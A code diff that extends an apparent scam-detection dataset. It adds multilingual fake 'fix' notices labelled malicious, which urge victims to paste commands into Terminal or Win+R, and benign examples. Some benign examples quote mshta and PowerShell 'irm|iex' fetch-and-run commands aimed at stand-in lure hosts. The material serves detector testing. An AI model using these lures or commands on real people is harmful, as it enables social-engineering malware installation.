@@ -102,7 +102,31 @@ for i, notice in enumerate(NOTICES):
         text = f"{notice} {ORDERS_NIX[i % 3]}\n{NIX_RUNS[i % 3]}"
         add("fix-notice", text, "malicious", "any", "terminal", SCAM_PAGES[i % 4])
         add("fix-notice", text, "malicious", "any", "unknown")
+# the same fault and order in German, French, Spanish, Portuguese and Italian
+NOTICES_I18N = [
+    "Ihr Browserprofil ist beschädigt. Öffnen Sie das Terminal und fügen Sie ein:\n{nix}",
+    "Votre certificat SSL a expiré. Win+R > {win}",
+    "Su perfil de Edge está dañado. Abra el cuadro Ejecutar y pegue: {win}",
+    "O Zoom precisa de uma atualização do plugin de áudio. No Terminal, cole:\n{nix}",
+    "Il tuo profilo è danneggiato. Apri il Terminale e incolla:\n{nix}",
+    "Das Meeting-Programm benötigt ein Audio-Plugin. Im Terminal einfügen:\n{nix}",
+    "Cette visionneuse nécessite un composant unique. Ouvrez la boîte Exécuter et collez : {win}",
+    "Actualización de seguridad requerida. Win+R > {win}",
+    "A sua licença foi bloqueada. Win+R, cole: {win}",
+    "Aggiornamento di sicurezza richiesto. Apri il Terminale e incolla:\n{nix}",
+]
+for i, notice in enumerate(NOTICES_I18N):
+    text = notice.format(nix=NIX_RUNS[i % 3], win=WIN_RUNS[i % 3])
+    target = "terminal" if "{nix}" in notice else "run_dialog"
+    add("fix-notice", text, "malicious", "any", target, SCAM_PAGES[i % 4])
+    add("fix-notice", text, "malicious", "any", "unknown")
 FIX_CALM = [
+    "Installieren Sie das Tool: Öffnen Sie das Terminal und fügen Sie ein:\ncurl -fsSL https://get.example.org/install.sh -o install.sh",
+    "Pour installer l'outil, ouvrez le Terminal et collez :\nbrew install example-tool",
+    "Si su certificado ha caducado, renuévelo en el panel de su proveedor; nunca pegue comandos en Ejecutar.",
+    "Seu perfil está danificado? Abra o navegador e use Configurações > Redefinir.",
+    "Aggiornamento di sicurezza richiesto: apri Impostazioni > Windows Update e installa gli aggiornamenti.",
+    "Arnaque : la page dit que votre profil est corrompu et demande Win+R > mshta https://a.example.test/e.hta ; ne le faites jamais.",
     # install steps that say what they install
     "Install nvm: open Terminal and run:\ncurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
     'To install Homebrew, paste this into Terminal:\n/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
@@ -203,6 +227,8 @@ SENTENCE_CALM = [
     "Hunt query: process name is mshta and the parent is explorer; see the KQL below.",
     "To check your version, run: python3 --version",
     "To list the drivers, run: driverquery /v",
+    "Never do this: Win+R > mshta https://lure.example.test/v is how fake check pages infect PCs.",
+    'A fake notice said: Repair it: Win+R > powershell -c "irm https://lure.example.test/a|iex". Do not run it.',
 ]
 for text in SENTENCE_CALM:
     add("sentence-then-command", text, "not_flagged", "any", "unknown")
@@ -426,7 +452,7 @@ for i, text in enumerate(UNSET):
     if i != 9:  # (the last one's variable is at the end of the name: nothing to cut)
         add("cmd-unset-vars", text, "flagged", "windows", "unknown")
 UNSET_CALM = [
-    "echo %PATH%",
+    "echo %PATH% > path-now.txt",
     "copy %USERPROFILE%\\a.txt %TEMP%\\b.txt",
     "cd %APPDATA%\\Code\\User",
     "set A=1 && echo x%A%y",
